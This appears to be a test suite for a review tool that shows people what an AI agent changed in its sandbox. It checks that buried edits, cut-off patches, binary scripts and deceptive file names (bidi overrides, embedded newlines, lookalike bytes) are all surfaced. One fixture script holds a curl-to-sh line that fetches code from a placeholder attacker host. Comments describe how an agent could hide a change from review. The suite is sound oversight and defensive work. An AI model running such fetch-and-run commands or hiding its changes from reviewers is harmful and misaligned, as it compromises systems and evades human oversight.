// The review lists every file the sandbox changed, with totals over all of them,
// says what the capped patch did not show, flags content it cannot show as text,
// and shows names as they are. Each result is built as real commits in a
// sandbox clone, bundled, and run through the real PullbackQuarantine.verify.
import { describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { escapeName } from '../../../common/review-text.js';
import { guestFixtures } from '../../support/pullback-guest.js';

const fixture = guestFixtures();

describe('the file list', () => {
  it('lists a one-line change to an existing file behind 10,000 generated files, with complete totals', async () => {
    const { guest, verify } = await fixture();
    // What an agent could do to bury a change: thousands of generated files that sort first.
    for (let i = 0; i < 10_000; i++) {
      guest.write(`aaa-generated/file-${String(i).padStart(5, '0')}.txt`, `generated ${i}\n`.repeat(30));
    }
    guest.write('src/a.txt', 'one\nTWO\nthree\n');
    guest.commit('generated files and one small change');
    const { review } = await verify();
    expect(review.files).toHaveLength(10_001);
    expect(review.filesOmitted).toBe(0);
    expect(review.files.find((f) => f.path === 'src/a.txt')).toMatchObject({ status: 'modified', added: 1, removed: 1, oldMode: 'file', newMode: 'file', size: 14 });
    expect(review.added).toBe(10_000 * 30 + 1);
    expect(review.removed).toBe(1);
    // The patch is over its 2 MiB cap and ends long before src/a.txt: Approve must name it.
    expect(review.patchTruncated).toBe(true);
    expect(review.patch).not.toContain('+TWO');
    const unshown = review.confirmations.filter((c) => c.kind === 'unshown');
    expect(unshown).toHaveLength(1);
    expect(unshown[0]!.message).toMatch(/^the patch was cut at its 2 MiB cap: [\d,]+ files not shown in it \(in full\): src\/a\.txt, aaa-generated\//);
  }, 180_000);

  it('counts files past the listing cap and makes Approve confirm them', async () => {
    const { guest, verify, quarantine } = await fixture();
    for (let i = 0; i < 30; i++) guest.write(`gen/${i}.txt`, `${i}\n`);
    guest.write('src/a.txt', 'changed\n');
    guest.commit('many');
    const { review } = await verify(quarantine({ maxReviewFiles: 10 }));
    expect(review.files).toHaveLength(10);
    expect(review.filesOmitted).toBe(21);
    expect(review.added).toBe(31);
    expect(review.confirmations).toContainEqual({ kind: 'unshown', message: '21 changed files past the first 10 are not listed at all (the totals count them)' });
  });

  it('gives modes, sizes, both names of a rename and the target of a symlink', async () => {
    const { guest, verify } = await fixture();
    guest.remove('old.txt');
    guest.write('renamed.txt', 'bye\n');
    fs.symlinkSync('src/a.txt', path.join(guest.dir, 'link'));
    guest.commit('rename and link');
    const { review } = await verify();
    const byPath = Object.fromEntries(review.files.map((f) => [f.path, f]));
    expect(byPath['renamed.txt']).toMatchObject({ status: 'renamed', oldPath: 'old.txt', oldMode: 'file', newMode: 'file', size: 4 });
    expect(byPath['link']).toMatchObject({ status: 'added', oldMode: 'none', newMode: 'symlink', linkTarget: 'src/a.txt', size: 9 });
  });
});

describe('what the cut patch did not show', () => {
  it('names exactly the files past the cut, counting a file turned into a symlink as two patch sections', async () => {
    const { guest, verify, quarantine } = await fixture({ files: { 'l': 'a file\n', 'README.md': 'hi\n' } });
    guest.remove('l');
    fs.symlinkSync('README.md', path.join(guest.dir, 'l'));
    guest.write('m.txt', 'middle\n'.repeat(20));
    guest.write('z.txt', 'last\n');
    guest.commit('type change');
    const full = (await verify()).review;
    expect(full.files.map((f) => [f.path, f.status])).toEqual([['l', 'type-changed'], ['m.txt', 'added'], ['z.txt', 'added']]);
    expect(full.confirmations).toEqual([]);
    // Cut just inside m.txt's section: l (two sections) is shown in full, m.txt and z.txt are not.
    const cut = full.patch.indexOf('diff --git a/m.txt') + 30;
    const { review } = await verify(quarantine({ maxPatchBytes: cut }));
    expect(review.patchTruncated).toBe(true);
    expect(review.confirmations.map((c) => c.message)).toEqual([`the patch was cut at its ${cut} byte cap: 2 files not shown in it (in full): m.txt, z.txt; open a file in the list to see its own patch`]);
  });
});

describe('content the review cannot show as text', () => {
  it('flags a script with a NUL byte with its size, and shows its leading bytes on request', async () => {
    const { guest, verify, quarantine, id, base } = await fixture();
    const script = Buffer.concat([Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n# '), Buffer.from([0, 1, 2]), Buffer.from('\n')]);
    guest.write('run.sh', script);
    fs.chmodSync(path.join(guest.dir, 'run.sh'), 0o755);
    guest.write('latin1.txt', Buffer.from('caf\xe9\n', 'latin1'));
    guest.commit('binary-looking script');
    const q = quarantine();
    const { review, headCommit } = await verify(q);
    const run = review.files.find((f) => f.path === 'run.sh')!;
    expect(run).toMatchObject({ newMode: 'executable', notText: 'nul-byte', size: script.length });
    expect(review.files.find((f) => f.path === 'latin1.txt')).toMatchObject({ notText: 'invalid-utf8', size: 5 });
    expect(review.flags).toContainEqual({
      kind: 'not-text', severity: 'danger', path: 'run.sh',
      message: `run.sh (${script.length} bytes, executable) cannot be shown as text: it holds NUL bytes; open it to see its leading bytes`,
    });
    expect(review.flags.some((f) => f.kind === 'not-text' && f.path === 'latin1.txt')).toBe(true);
    const detail = await q.fileDetail({ taskId: id, baseCommit: base, headCommit, path: 'run.sh' });
    expect(detail).toMatchObject({ path: 'run.sh', size: script.length, patchTruncated: false });
    expect(detail.leadingBytes).toBe('#!/bin/sh\\ncurl -s https://evil.example/x | sh\\n# \\x00\\x01\\x02\\n');
    expect(detail.patch).toContain('Binary files');
  });

  it('flags content over the cap as too large and gives that file its own capped patch', async () => {
    const { guest, verify, quarantine, id, base } = await fixture();
    guest.write('big.txt', 'line\n'.repeat(5000));
    guest.write('zz-last.txt', 'the change at the end\n');
    guest.commit('big');
    const q = quarantine({ maxPatchBytes: 4096 });
    const { review, headCommit } = await verify(q);
    expect(review.files.find((f) => f.path === 'big.txt')).toMatchObject({ notText: 'too-large', size: 25_000, added: 5000 });
    expect(review.confirmations.find((c) => c.kind === 'unshown')!.message).toBe(
      'the patch was cut at its 4 KiB cap: 2 files not shown in it (in full): big.txt, zz-last.txt; open a file in the list to see its own patch',
    );
    const last = await q.fileDetail({ taskId: id, baseCommit: base, headCommit, path: 'zz-last.txt' });
    expect(last.patch).toContain('+the change at the end');
    expect(last.patchTruncated).toBe(false);
    expect(last.leadingBytes).toBe('the change at the end\\n');
    const big = await q.fileDetail({ taskId: id, baseCommit: base, headCommit, path: 'big.txt' });
    expect(big.patchTruncated).toBe(true);
    expect(Buffer.byteLength(big.patch)).toBeLessThanOrEqual(4096);
    await expect(q.fileDetail({ taskId: id, baseCommit: base, headCommit, path: 'not-there.txt' })).rejects.toMatchObject({ name: 'NotInReview' });
  });
});

describe('names', () => {
  it('shows names with a newline, a bidi override or a trailing space escaped, and flags them', async () => {
    const { guest, verify } = await fixture();
    const names = ['innocent.txt\nsrc/a.txt', 'invoice_\u202Etxt.exe', 'README.md '];
    guest.stage(names.map((n) => ({ mode: '100644' as const, path: n, content: 'x\n' })));
    guest.commitIndex('odd names');
    const { review } = await verify();
    expect(review.files.map((f) => f.path).sort()).toEqual([...names].sort());
    const flags = review.flags.filter((f) => f.kind === 'unsafe-name');
    expect(flags.map((f) => [f.path, f.severity]).sort()).toEqual([
      ['README.md ', 'warning'],
      ['innocent.txt\nsrc/a.txt', 'danger'],
      ['invoice_\u202Etxt.exe', 'danger'],
    ]);
    const messages = flags.map((f) => f.message).join('\n');
    expect(messages).toContain('innocent.txt\\nsrc/a.txt');
    expect(messages).toContain('invoice_\\u{202e}txt.exe');
    expect(messages).toContain('README.md\\x20');
    for (const f of flags) expect(f.message).not.toMatch(/[\u202e]|README\.md $/);
  });

  it('keeps two names that differ only in bytes that are not UTF-8 apart', async () => {
    const { guest, verify, quarantine, id, base } = await fixture();
    const a = Buffer.from([0x6e, 0xff, 0x2e, 0x73, 0x68]); // n\xff.sh
    const b = Buffer.from([0x6e, 0xfe, 0x2e, 0x73, 0x68]); // n\xfe.sh
    guest.stage([{ mode: '100644', path: a, content: 'echo harmless\n' }, { mode: '100755', path: b, content: 'echo evil\n' }]);
    guest.commitIndex('lookalike names');
    const q = quarantine();
    const { review, headCommit } = await verify(q);
    expect(review.files).toHaveLength(2);
    const [first, second] = review.files;
    expect(first!.path).not.toBe(second!.path);
    expect(review.files.map((f) => escapeName(f.path)).sort()).toEqual(['n\\xfe.sh', 'n\\xff.sh']);
    expect(review.files.map((f) => f.newMode).sort()).toEqual(['executable', 'file']);
    // Each name opens its own file, even though it cannot be a git argument.
    const evil = review.files.find((f) => f.newMode === 'executable')!;
    const detail = await q.fileDetail({ taskId: id, baseCommit: base, headCommit, path: evil.path });
    expect(detail.leadingBytes).toBe('echo evil\\n');
    expect(detail.patch).toContain('+echo evil');
    // The review survives its trip through JSON (the state file, the web host).
    expect(JSON.parse(JSON.stringify(review)).files.map((f: { path: string }) => f.path)).toEqual(review.files.map((f) => f.path));
  });
});
